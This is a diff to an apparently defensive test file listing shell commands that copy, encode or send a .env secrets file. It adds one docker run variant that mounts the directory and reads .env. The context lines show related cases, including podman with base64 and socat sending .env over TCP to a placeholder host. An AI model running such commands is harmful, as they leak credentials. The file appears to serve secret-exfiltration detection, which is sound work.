@@ -56,6 +56,7 @@ describe('a secret that is copied, packed or sent', () => {
     'docker cp .env c:/x',
     'docker run -v "$PWD":/w alpine cat /w/.env',
     'docker run --rm -v .:/w:ro -w /w alpine cat .env',
+    'docker run --rm -v=.:/w:ro -w=/w alpine cat .env',
     'podman run --mount type=bind,src=.,dst=/w alpine sh -c "cat /w/.env | base64"',
     'socat FILE:.env -',
     'socat -u OPEN:.env,rdonly TCP:host:80',
